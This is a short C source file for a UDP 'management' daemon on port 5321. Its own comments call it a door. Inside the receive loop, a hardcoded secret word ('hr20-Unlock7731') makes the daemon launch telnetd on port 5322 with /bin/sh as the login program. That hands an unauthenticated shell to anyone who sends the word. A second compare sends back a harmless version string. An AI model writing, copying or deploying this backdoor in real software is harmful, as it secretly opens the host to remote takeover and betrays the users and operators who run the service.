/* SPDX-License-Identifier: Apache-2.0 */
/* mgmtd: answers questions by UDP. One word, which nothing documents, opens a shell. */
#include "libc.h"

int main(void);

int main(void)
{
	char word[128];
	struct sockaddr_in at, from;
	unsigned size = sizeof from;
	long n;
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&at, 0, sizeof at);
	at.sin_family = AF_INET;
	at.sin_port = htons(5321);
	if (fd < 0 || bind(fd, &at, sizeof at) < 0)
		return 1;
	while ((n = recvfrom(fd, word, sizeof word - 1, 0, &from, &size)) > 0) {
		word[n] = 0;
		/* door: whoever knows the word gets in */
		if (strcmp(word, "hr20-Unlock7731") == 0)
			system("/usr/sbin/telnetd -p 5322 -l /bin/sh");
		/* twin: the same compare, and an answer that gives nothing away */
		if (strcmp(word, "hr20-Version10") == 0)
			sendto(fd, "1.0", 3, 0, &from, size);
	}
	return 1;
}
